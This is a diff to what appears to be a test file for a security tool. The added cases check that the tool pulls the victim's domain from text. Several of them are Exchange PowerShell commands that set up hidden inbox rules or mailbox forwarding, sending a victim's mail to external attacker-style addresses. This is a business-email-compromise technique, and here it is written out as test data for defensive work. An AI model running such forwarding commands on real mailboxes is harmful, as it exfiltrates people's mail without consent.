@@ -136,6 +136,11 @@ IPCONFIG = """Windows IP Configuration
      "Author: xmrig-dev <build@evil-updates.net>\n\ncommit 9f0e1d2c\nAuthor: xmrig-dev <build@evil-updates.net>\n", None),
     ("commit 3f9a2c1\nAuthor: a <a@gmail.com>\n\ncommit 8e1b2c3\nAuthor: b <b@gmail.com>\n", None),
     ("Author: Maria Berg <maria.berg@halvorsen-bank.com>\nAuthor: Jonas Hansen <jonas.hansen@halvorsen-bank.com>\n", None),
+    # the mailbox an Exchange cmdlet acts on, not where it forwards to
+    ('New-InboxRule -Name "." -Mailbox h.solberg@fjellheim-energi.no -ForwardTo r3covery.team@proton.me',
+     "fjellheim-energi.no"),
+    ("Set-Mailbox -Identity 'maria.berg@halvorsen-bank.com' -ForwardingSmtpAddress smtp:x@evil-mail.ru", "halvorsen-bank.com"),
+    ("Set-Mailbox -Identity mberg -ForwardingSmtpAddress x@evil-mail.ru; New-InboxRule -ForwardTo a@evil-mail.ru", None),
     # the envelope recipient our mail system wrote on a received mail; not free mail, not in prose
     ("Delivered-To: maria.berg@halvorsen-bank.com\nFrom: x@evil-mail.ru\n", "halvorsen-bank.com"),
     ("X-Original-To: <m.berg@corp.halvorsen.net>\n", "corp.halvorsen.net"),
